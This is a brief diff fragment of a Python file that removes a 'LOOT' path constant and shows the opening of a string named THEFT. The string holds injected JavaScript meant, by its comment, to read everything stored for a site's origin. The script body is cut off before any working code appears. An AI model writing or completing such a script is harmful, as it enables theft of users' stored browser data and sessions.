@@ -16,7 +16,6 @@ import sys
 import threading
 from pathlib import Path
 
-LOOT = "/loot"
 # As a script of the same origin: whatever is kept for it, in every form that can be read.
 THEFT = """
 (async () => {
